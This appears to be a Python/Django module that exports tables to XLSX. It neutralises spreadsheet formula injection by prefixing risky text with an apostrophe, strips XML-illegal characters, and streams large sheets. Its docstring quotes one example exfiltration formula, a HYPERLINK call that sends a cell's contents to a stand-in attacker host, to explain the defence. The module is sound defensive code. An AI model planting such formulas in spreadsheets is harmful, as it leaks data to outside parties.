"""The one way a table leaves the system: an exporter writes XLSX with real numbers and dates,
and with text that is safe to open.

Every cell of every XLSX we hand out goes through `excel_value`. Text comes from users and from
imported files, so two things are done to it:
- a text that begins with `=`, `+`, `-`, `@`, a tab or a carriage return gets a leading
  apostrophe and stays a string cell, so that no spreadsheet takes it for a formula (OWASP
  advice on CSV injection: `=HYPERLINK("http://evil.example/?leak="&B2)` would send the
  neighbouring cells away when clicked);
- characters XML cannot hold (a stray `\\x07` from a pasted text) are dropped: openpyxl refuses
  them and the whole file would fail.
Numbers, dates and empty cells are left as they are: a negative number stays a number.
`restore_text` undoes the apostrophe, so a file we wrote reads back to the same text.
"""

from datetime import date, datetime
from decimal import Decimal
from io import BytesIO
from itertools import chain, islice

from django.http import HttpResponse
from django.utils import timezone
from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ERROR_CODES, ILLEGAL_CHARACTERS_RE
from openpyxl.styles import Font
from openpyxl.utils import get_column_letter

XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"
DATE_FORMAT = "DD.MM.YYYY"
DATETIME_FORMAT = "DD.MM.YYYY HH:MM"
MAX_WIDTH = 60
FIT_ROWS = 200  # rows a streamed sheet looks at to fit its column widths
BOLD = Font(bold=True)


def _quoted(text):
    # Apostrophes already in front are counted in, so that `restore_text` gives back exactly
    # the text that was written, even one a user began with an apostrophe.
    return text.lstrip(QUOTE).startswith(FORMULA_PREFIXES)


def safe_text(text):
    """The text as a spreadsheet must receive it: never a formula, nothing XML cannot hold."""
    text = ILLEGAL_CHARACTERS_RE.sub("", text)
    return QUOTE + text if _quoted(text) else text


def restore_text(value):
    """A cell value as it was before `safe_text`; any other value unchanged."""
    if isinstance(value, str) and value.startswith(QUOTE) and _quoted(value[1:]):
        return value[1:]
    return value


def excel_value(value):
    if value is None:
        return None
    if isinstance(value, bool):
        return "да" if value else "нет"
    if isinstance(value, datetime):
        # Excel has no time zones: the local time the pages show, without its offset.
        local = timezone.localtime(value) if timezone.is_aware(value) else value
        return local.replace(tzinfo=None)
    if isinstance(value, (int, float, Decimal, date)):
        return value
    # An empty text is an empty cell: openpyxl would write a string cell without a string.
    return safe_text(str(value)) or None


def xlsx_cell(sheet, value):
    """A cell of `sheet` holding `value`: numbers and dates typed and formatted, text safe."""
    value = excel_value(value)
    cell = WriteOnlyCell(sheet, value)
    if isinstance(value, str):
        cell.data_type = "s"  # openpyxl would make «#N/A» an error cell
    elif isinstance(value, datetime):
        cell.number_format = DATETIME_FORMAT
    elif isinstance(value, date):
        cell.number_format = DATE_FORMAT
    return cell


def plain_row(sheet, values, cells):
    """The row as `sheet.append` takes it: plain values as they are, a cell only where openpyxl
    alone would get it wrong (a date's format, text that looks like an error code).

    A date cell is made once per column in `cells` and filled anew each row: a write-only
    sheet writes a row before the next is built, and making and styling a cell per date was
    the costliest step of a long export."""
    row = []
    for index, value in enumerate(values):
        value = excel_value(value)
        if isinstance(value, date):
            number_format = DATETIME_FORMAT if isinstance(value, datetime) else DATE_FORMAT
            cell = cells.get((index, number_format))
            if cell is None:
                cell = cells[index, number_format] = WriteOnlyCell(sheet)
                cell.number_format = number_format
            cell.value = value
            row.append(cell)
        elif isinstance(value, str) and value in ERROR_CODES:
            row.append(xlsx_cell(sheet, value))
        else:
            row.append(value)
    return row


def new_workbook():
    """A workbook that streams: each sheet's rows go to a temporary file as they are appended,
    so memory stays flat however long the table. Widths, the frozen header and styles are set
    before a row is written; nothing written can be read back or changed."""
    return Workbook(write_only=True)


def sheet_title(title, used):
    """A sheet name Excel takes (at most 31 characters, none of []:*?/\\), unique among `used`
    (to which it is added): «Раздел», «Раздел 2»…"""
    base = "".join(ch for ch in str(title) if ch not in "[]:*?/\\")[:31]
    name, number = base, 2
    while name in used:
        suffix = f" {number}"
        name, number = base[: 31 - len(suffix)] + suffix, number + 1
    used.add(name)
    return name


def add_sheet(workbook, title, widths=()):
    """A new sheet; column widths go first, as a write-only sheet writes them before any row."""
    sheet = workbook.create_sheet(str(title)[:31])
    for index, width in enumerate(widths, start=1):
        sheet.column_dimensions[get_column_letter(index)].width = width
    return sheet


def append_row(sheet, values, **style):
    """Write a row below the last one, each cell with `style` (font, alignment, border).

    The row is written at once, so it is styled here or never; nothing rescans the sheet, so
    a table takes time in proportion to its size."""
    if style:
        cells = [xlsx_cell(sheet, value) for value in values]
        for cell in cells:
            for name, item in style.items():
                setattr(cell, name, item)
        sheet.append(cells)
        return
    sheet.append(plain_row(sheet, values, {}))


def display_width(value):
    value = excel_value(value)
    if isinstance(value, datetime):
        return len("ДД.ММ.ГГГГ ЧЧ:ММ")
    if isinstance(value, date):
        return len("ДД.ММ.ГГГГ")
    return min(len(str(value if value is not None else "")), MAX_WIDTH)


def fitted_widths(headers, sample):
    """Columns as wide as the longest value of the header and the sampled rows, within
    MAX_WIDTH: a streamed sheet sets its widths before the rows arrive."""
    widths = [display_width(header) for header in headers]
    for row in sample:
        for index, value in enumerate(row[: len(widths)]):
            widths[index] = max(widths[index], display_width(value))
    return [width + 2 for width in widths]


def write_table(sheet, headers, rows, *, before=(), header_style=None, row_style=None):
    """A whole sheet: the `before` rows as (values, style) pairs (a heading, facts), the
    header in bold, frozen, then the rows, and an autofilter over the table. Returns the
    number of rows written.

    `rows` is consumed once, as it comes: a queryset's iterator is never held in memory."""
    first = len(before) + 1
    sheet.freeze_panes = f"A{first + 1}"
    for values, style in before:
        append_row(sheet, values, **style)
    append_row(sheet, [str(h) for h in headers], **{"font": BOLD, **(header_style or {})})
    count, cells = 0, {}
    for row in rows:
        if row_style:
            append_row(sheet, row, **row_style)
        else:
            sheet.append(plain_row(sheet, row, cells))
        count += 1
    last_column = get_column_letter(max(len(headers), 1))
    sheet.auto_filter.ref = f"A{first}:{last_column}{first + count}"
    return count


def fit_and_write_table(workbook, title, headers, rows):
    """A sheet of one table, its widths fitted to the header and the first FIT_ROWS rows."""
    rows = iter(rows)
    sample = [list(row) for row in islice(rows, FIT_ROWS)]
    sheet = add_sheet(workbook, title, fitted_widths(headers, sample))
    write_table(sheet, headers, chain(sample, rows))
    return sheet


def workbook_bytes(workbook):
    buffer = BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def write_xlsx(headers, rows, title="Лист1", out=None):
    """The XLSX of one table: its bytes, or written into `out` (a path or a binary file), which
    keeps memory flat however many rows come."""
    workbook = new_workbook()
    fit_and_write_table(workbook, title, headers, rows)
    if out is None:
        return workbook_bytes(workbook)
    workbook.save(out)
    return None


def xlsx_response(filename, content):
    response = HttpResponse(content, content_type=XLSX_CONTENT_TYPE)
    response["Content-Disposition"] = f'attachment; filename="{filename}.xlsx"'
    return response


class Exporter:
    """Subclasses name themselves and yield rows; the base writes the XLSX."""

    identifier = ""
    verbose_name = ""
    headers = ()

    def rows(self):
        raise NotImplementedError

    def xlsx(self):
        return write_xlsx(self.headers, self.rows(), title=str(self.verbose_name))

    def response(self):
        return xlsx_response(self.identifier, self.xlsx())
